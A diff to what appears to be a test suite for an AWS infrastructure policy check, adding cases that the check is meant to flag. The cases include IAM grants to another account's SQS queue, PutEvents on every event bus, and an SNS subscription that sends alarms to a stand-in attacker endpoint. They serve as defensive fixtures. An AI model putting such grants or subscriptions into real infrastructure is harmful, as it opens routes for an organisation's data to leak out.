@@ -54,6 +54,12 @@ const violations: Case[] = [
     { name: "the backend task role may put objects into any bucket", change: taskMay({ Sid: "Uploads", Effect: "Allow", Action: "s3:PutObject", Resource: "arn:aws:s3:::*/*" }) },
     { name: "the backend task role may put objects into a named bucket the stack does not hold", change: taskMay({ Sid: "Reports", Effect: "Allow", Action: ["s3:PutObject", "s3:PutObjectAcl"], Resource: "arn:aws:s3:::partner-reports-drop/*" }) },
     { name: "the backend task role may put objects into any bucket named like the stack's", change: taskMay({ Sid: "Mirror", Effect: "Allow", Action: "s3:PutObject", Resource: "arn:aws:s3:::expertconnect-*/*" }) },
+    { name: "the backend task role may send messages to another account's queue", change: taskMay({ Sid: "Relay", Effect: "Allow", Action: "sqs:SendMessage", Resource: `arn:aws:sqs:us-east-1:${FOREIGN}:collector` }) },
+    { name: "the backend task role may put events on every account's bus", change: taskMay({ Sid: "Events", Effect: "Allow", Action: "events:PutEvents", Resource: "*" }) },
+    {
+        name: "the alarms topic also delivers to an outside HTTPS collector",
+        change: add("aws:sns/topicSubscription:TopicSubscription", "alarms-collector", { topic: `arn:aws:sns:us-east-1:${ACCOUNT}:expertconnect-alarms`, protocol: "https", endpoint: "https://collector.attacker.example/sns" }),
+    },
     {
         name: "a database's S3 export role may write into a bucket the stack does not hold",
         change: all(
